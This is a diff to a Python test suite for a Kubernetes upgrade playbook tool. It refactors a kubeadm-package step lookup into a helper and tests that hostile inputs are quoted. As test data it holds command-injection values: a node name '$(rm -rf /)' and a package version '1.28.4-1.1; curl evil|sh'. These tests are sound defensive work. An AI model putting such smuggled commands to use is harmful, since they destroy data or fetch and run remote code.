@@ -18,6 +18,7 @@ from upgrader.core.playbook import (
     Playbook,
     RepoConfig,
     StepContext,
+    StepSpec,
     expand_step,
     known_package_version,
     load_playbooks,
@@ -504,12 +505,16 @@ def test_hostile_node_name_stays_inert_in_a_real_step(tmp_path: Path) -> None:
     assert shlex.split(step.command or "") == ["/usr/local/sbin/site", "$(rm -rf /)", "v1.28.4"]
 
 
+def kubeadm_package() -> StepSpec:
+    """The default playbook's worker step that installs kubeadm."""
+    return next(s for s in load_playbooks().phase("worker").steps if s.name == "kubeadm-package")
+
+
 def test_hostile_package_version_from_facts_is_quoted() -> None:
-    pb = load_playbooks()
     evil = "1.28.4-1.1; curl evil|sh"
     assert known_package_version([evil], V) == evil
     ctx = StepContext(V, "w-1", "worker", "demo", "apt", pkg_version=evil)
-    pkg = next(s for s in pb.phase("worker").steps if s.name == "kubeadm-package")
+    pkg = kubeadm_package()
     cmd = expand_step(pkg, "worker", ctx).command or ""
     assert "kubeadm='1.28.4-1.1; curl evil|sh'" in cmd
     assert "kubeadm=1.28.4-1.1;" not in cmd
@@ -528,8 +533,7 @@ def test_step_values_cover_exactly_the_documented_variables() -> None:
 
 
 def test_description_shows_values_unquoted() -> None:
-    pb = load_playbooks()
-    pkg = next(s for s in pb.phase("worker").steps if s.name == "kubeadm-package")
+    pkg = kubeadm_package()
     known = StepContext(V, "w 1", "worker", "demo", "apt", pkg_version="1.28.4-1.1")
     assert expand_step(pkg, "worker", known).description == (
         "Install the kubeadm package 1.28.4-1.1 on w 1"
@@ -555,8 +559,7 @@ def test_known_package_version() -> None:
 
 
 def test_exact_version_known_renders_the_design_command_literally() -> None:
-    pb = load_playbooks()
-    pkg = next(s for s in pb.phase("worker").steps if s.name == "kubeadm-package")
+    pkg = kubeadm_package()
     apt = StepContext(V, "w-1", "worker", "demo", "apt", pkg_version="1.28.4-1.1")
     assert expand_step(pkg, "worker", apt).command == (
         "apt-get -o DPkg::Lock::Timeout=300 check >/dev/null && apt-mark unhold kubeadm && "
@@ -574,8 +577,7 @@ def test_exact_version_known_renders_the_design_command_literally() -> None:
 
 
 def test_unknown_exact_version_is_resolved_after_the_list_refresh() -> None:
-    pb = load_playbooks()
-    pkg = next(s for s in pb.phase("worker").steps if s.name == "kubeadm-package")
+    pkg = kubeadm_package()
     cmd = expand_step(pkg, "worker", StepContext(V, "w-1", "worker", "demo", "apt")).command
     assert cmd is not None
     assert cmd.index("apt-get update") < cmd.index("apt-cache madison kubeadm")
